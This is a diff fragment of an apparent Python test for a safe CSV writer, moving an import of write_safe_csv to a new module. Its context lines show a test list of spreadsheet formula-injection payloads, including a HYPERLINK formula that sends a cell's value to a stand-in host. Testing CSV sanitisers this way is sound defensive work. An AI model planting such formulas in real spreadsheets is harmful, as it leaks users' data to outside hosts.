@@ -8,7 +8,7 @@ import io
 import polars as pl
 import pytest
 
-from tasks.texts.csv_text import write_safe_csv
+from tasks.texts.table_files import write_safe_csv
 
 FORMULAS = [
     '=HYPERLINK("http://x.example?"&A1,"click")',
